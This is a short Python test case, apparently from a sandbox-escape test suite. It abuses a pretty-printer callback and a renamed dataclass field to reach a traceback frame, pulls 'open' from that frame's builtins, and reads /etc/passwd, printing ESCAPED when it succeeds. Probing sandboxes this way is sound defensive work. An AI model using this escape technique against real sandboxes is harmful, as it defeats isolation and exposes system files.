# tries: a printer's hook is handed what a field's name reads
# class: callbacks
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import dataclasses
import pprint


@dataclasses.dataclass
class E(Exception):
    x: int = 0


seen = []


class P(pprint.PrettyPrinter):
    def format(self, value, context, maxlevels, level):
        seen.append(value)
        return "x" * 99, True, False


dataclasses.fields(E)[0].name = "__traceback__"
try:
    raise E()
except E as error:
    P().pformat(error)
traces = [s for s in seen if type(s).__name__ == "traceback"]
use(pick(traces[0].tb_frame))
